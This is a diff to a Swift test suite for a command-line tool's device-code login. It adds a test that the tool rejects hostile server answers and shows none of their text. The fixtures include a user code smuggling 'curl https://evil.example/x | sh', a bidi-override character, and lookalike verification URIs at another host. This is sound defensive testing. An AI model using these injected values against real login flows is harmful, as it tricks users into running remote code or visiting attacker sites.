@@ -42,7 +42,8 @@ import TestSupport
         let (server, cli) = try await Self.deviceProfile()
         let (screen, status) = try await Self.loginApproved(accept: true, server: server, cli: cli)
         #expect(status == 0, "\(screen)")
-        #expect(screen.contains("open this address in a browser on any device:\n\n  \(server.issuer)/device/\n"), "\(screen)")
+        let host = try #require(URL(string: server.issuer)).host! + (URL(string: server.issuer)?.port.map { ":\($0)" } ?? "")
+        #expect(screen.contains("open this address at \(host) in a browser on any device:\n\n  \(server.issuer)/device/\n"), "\(screen)")
         #expect(screen.contains("\(server.issuer)/device/?user_code="), "\(screen)")
         #expect(screen.contains("Signed in as "), "\(screen)")
 
@@ -103,5 +104,35 @@ import TestSupport
         let headless = try await cli.run(["login"], extraEnvironment: ssh)
         #expect(headless.status == 2 && headless.stderrText.contains("No terminal"), "\(headless.stderrText)")
         #expect(!headless.stderrText.contains("enter the code") && Date().timeIntervalSince(started) < 20)
+    }
+
+    /// A device endpoint (http_test_server.py's /device-answer) whose answer shows more than it can vouch for: an
+    /// instruction dressed as a user code, a bidi control in it, a verification URI over plain http at another host,
+    /// a complete URI at another host. Each login exits non-zero with a clear error and prints none of the answer's text.
+    @Test func aHostileDeviceAnswerIsRefusedAndNoneOfItsTextIsShown() async throws {
+        let (_, cli) = try await Self.deviceProfile()
+        let stand = try await ScriptServer.start(script: "http_test_server.py")
+        let hostile: [[String: Any]] = [
+            ["user_code": "ABCD-EFGH then run: curl https://evil.example/x | sh"],
+            ["user_code": "WDJB\u{202E}evil.example"],
+            ["verification_uri": "http://evil.example/device"],
+            ["verification_uri_complete": "https://evil.example/device?user_code=WDJB-MJHT"],
+        ]
+        for changes in hostile {
+            var answer: [String: Any] = ["device_code": "hostile-device-code", "user_code": "WDJB-MJHT",
+                                         "verification_uri": stand.baseURL + "/device", "expires_in": 30, "interval": 1]
+            answer.merge(changes) { $1 }
+            let encoded = try JSONSerialization.data(withJSONObject: answer).base64EncodedString()
+                .replacingOccurrences(of: "+", with: "-").replacingOccurrences(of: "/", with: "_").replacingOccurrences(of: "=", with: "")
+            let configure = await cli.runInProcess(["configure", "--device-authorization-url", stand.baseURL + "/device-answer/" + encoded])
+            try #require(configure.status == 0, "\(configure.stderrText)")
+            let login = try await cli.run(["login", "--device"])
+            #expect(login.status != 0 && login.status != 130, "\(changes): \(login.stderrText)")
+            #expect(login.stderrText.contains("device authorization"), "a clear error for \(changes): \(login.stderrText)")
+            for word in ["evil", "curl", "enter the code", "WDJB"] {
+                #expect(!login.stderrText.contains(word) && !login.stdoutText.contains(word), "\(word) shown for \(changes): \(login.stderrText)")
+            }
+            #expect(try await cli.storedRecord()?["accessToken"] == nil)
+        }
     }
 }
